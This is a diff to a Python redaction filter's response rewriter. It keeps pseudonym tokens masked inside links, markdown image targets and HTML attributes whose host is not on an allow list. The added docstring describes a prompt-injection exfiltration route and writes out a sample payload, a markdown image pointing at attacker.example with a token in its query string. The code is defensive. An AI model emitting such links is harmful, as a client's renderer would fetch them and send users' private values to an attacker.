@@ -18,6 +18,12 @@ holds back the unfinished word (from the last space, tab or line break, at most 
 characters) so that a secret is masked whole: the one case that holds back more than a token
 prefix. `mask_new` then sees a stream word by word, where a complete text is seen whole.
 
+Links (policy `responses.restore_in_links`): a token inside a URL, a markdown link or image target,
+or an HTML attribute stays a token unless the URL's host is on the allow list, because a client's
+renderer fetches such a link and would send the value to whoever wrote it (a prompt injection in a
+tool result can write `![x](https://attacker.example/p.png?d=<EMAIL_...>)`). Streams keep the last
+`LINK_CONTEXT` characters of each channel to tell.
+
 `keep_transcript` keeps what the client is sent (the last `TRANSCRIPT_CHARS` characters), so that the
 response's use check reads exactly the text this one reader passed on, in plain and streamed replies.
 """
@@ -31,6 +37,39 @@ from collections.abc import Callable, Mapping
 from filters.redact.pseudonyms import DIGEST_HEX, ENTITY_PATTERN, TOKEN_MAX_LEN, TOKEN_PARTIAL_RE, TOKEN_RE
 
 WORD_CAP = 256
+LINK_CONTEXT = 512
+
+# What comes before a token places it in a link: the word it is part of (no spaces in a URL).
+_WORD_START = re.compile(r'[\s"\'`]')
+_SCHEME = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]*://|//|www\.|(?:mailto|tel|sms|data|javascript):)", re.I)
+_MARKDOWN_TARGET = re.compile(r"\]\(\s*<?([^()\s]*)$")
+_HTML_ATTRIBUTE = re.compile(r"<[A-Za-z][^<>]*\s[A-Za-z_:][-A-Za-z0-9_:.]*\s*=\s*(?:\\?[\"'])?([^\"'<>]*)$")
+_HOST = re.compile(r"^(?:[A-Za-z][A-Za-z0-9+.-]*:)?(?://)?(?:[^/?#@\s]*@)?([^/?#:\s\\]+)")
+
+
+def link_host(before: str) -> str | None:
+    """When a token that follows `before` sits inside a link: the link's host ("" when it has none)."""
+    markdown = _MARKDOWN_TARGET.search(before[-LINK_CONTEXT:])
+    if markdown is not None:
+        return _host(markdown.group(1))
+    attribute = _HTML_ATTRIBUTE.search(before[-LINK_CONTEXT:])
+    if attribute is not None:
+        return _host(attribute.group(1))
+    starts = [m.end() for m in _WORD_START.finditer(before, max(0, len(before) - LINK_CONTEXT))]
+    word = before[starts[-1] if starts else max(0, len(before) - LINK_CONTEXT):]
+    scheme = _SCHEME.search(word)
+    if scheme is None:
+        return None
+    return _host(word[scheme.start():])
+
+
+def _host(url: str) -> str:
+    match = _HOST.match(url.strip().lstrip("<"))
+    return match.group(1).lower() if match and ("://" in url or url.startswith(("//", "www."))) else ""
+
+
+def _allowed(host: str, hosts: tuple[str, ...]) -> bool:
+    return any(host == h or host.endswith("." + h) for h in hosts) if host else False
 TRANSCRIPT_CHARS = 4000
 
 # Inside a JSON string literal some encoders write < and > as \u003c and \u003e.
@@ -65,8 +104,10 @@ class ResponseText:
     """The ResponseRewriter of one request: its pseudonyms (token -> value) and an optional `mask_new`."""
 
     def __init__(self, pseudonyms: Mapping[str, str],
-                 mask_new: Callable[[str], str] | None = None, *, keep_transcript: bool = False) -> None:
+                 mask_new: Callable[[str], str] | None = None, *, keep_transcript: bool = False,
+                 link_hosts: tuple[str, ...] = ()) -> None:
         self._values = dict(pseudonyms)
+        self.link_hosts = link_hosts
         self._json_values: dict[str, str] = {}
         self.mask_new = mask_new
         self._transcript: list[str] | None = [] if keep_transcript else None
@@ -113,16 +154,18 @@ class ResponseText:
         """A fresh rewriter for one streamed channel (one content block, one tool call's arguments)."""
         return ResponseStream(self, in_json)
 
-    def rewrite(self, text: str, in_json: bool, odd_before: bool) -> str:
-        """`text` rewritten; `odd_before`: in JSON, the text before it ends inside an escape."""
+    def rewrite(self, text: str, in_json: bool, odd_before: bool, context: str = "") -> str:
+        """`text` rewritten; `odd_before`: in JSON, the text before it ends inside an escape; `context`: the
+        channel's text before it (a stream's earlier chunks), to tell a token inside a link."""
         # TOKEN_RE starts with a literal, which the regex engine scans for fast; TOKEN_JSON_RE does not.
         pattern = TOKEN_JSON_RE if in_json and "\\u003" in text else TOKEN_RE
         if self.mask_new is None:
-            return pattern.sub(lambda m: _first(self._token(m, text, in_json, odd_before), m.group(0)), text)
+            return pattern.sub(lambda m: _first(self._token(m, text, in_json, odd_before, context), m.group(0)),
+                               text)
         pieces: list[str] = []
         cursor = 0
         for match in pattern.finditer(text):
-            token = self._token(match, text, in_json, odd_before)
+            token = self._token(match, text, in_json, odd_before, context)
             if token is None:
                 continue  # not a token at all: part of the text around it
             pieces.append(self._mask(text[cursor:match.start()], in_json))
@@ -131,19 +174,28 @@ class ResponseText:
         pieces.append(self._mask(text[cursor:], in_json))
         return "".join(pieces)
 
-    def _token(self, match: re.Match[str], text: str, in_json: bool, odd_before: bool) -> str | None:
+    def _token(self, match: re.Match[str], text: str, in_json: bool, odd_before: bool,
+               context: str = "") -> str | None:
         """A known token's value (JSON-escaped in JSON), an unknown one as it is; None: no token."""
         if not in_json:
+            if match.group(0) in self._values and self._in_link(context, text, match.start()):
+                return match.group(0)
             return self._values.get(match.group(0), match.group(0))
         if match.group(0)[0] == "\\" and _escaped(text, match.start(), odd_before):
             return None  # "\\u003c..." is a backslash and the letters u003c, not "<"
         key = f"<{match.group('entity')}_{match.group('digest')}>"
-        if key not in self._values:
+        if key not in self._values or self._in_link(context, text, match.start()):
             return match.group(0)
         escaped = self._json_values.get(key)
         if escaped is None:
             escaped = self._json_values[key] = json.dumps(self._values[key])[1:-1]
         return escaped
+
+    def _in_link(self, context: str, text: str, start: int) -> bool:
+        """Whether the token at `start` is inside a link whose host is not on the allow list."""
+        before = context[-LINK_CONTEXT:] + text[max(0, start - LINK_CONTEXT):start]
+        host = link_host(before)
+        return host is not None and not _allowed(host, self.link_hosts)
 
     def _mask(self, text: str, in_json: bool) -> str:
         mask_new = self.mask_new
@@ -167,6 +219,7 @@ class ResponseStream:
         self._in_json = in_json
         self._held = ""
         self._odd = False  # JSON: the text already passed on ends inside an escape
+        self._before = ""  # the last LINK_CONTEXT characters already rewritten (as they came)
 
     @property
     def held(self) -> str:
@@ -187,7 +240,8 @@ class ResponseStream:
         return self._emit(text) if text else ""
 
     def _emit(self, text: str) -> str:
-        out = self._rewriter.rewrite(text, self._in_json, self._odd) if text else ""
+        out = self._rewriter.rewrite(text, self._in_json, self._odd, self._before) if text else ""
+        self._before = (self._before + text)[-LINK_CONTEXT:]
         self._rewriter.note(out, in_json=self._in_json)
         if self._in_json and text:
             run = len(text) - len(text.rstrip("\\"))
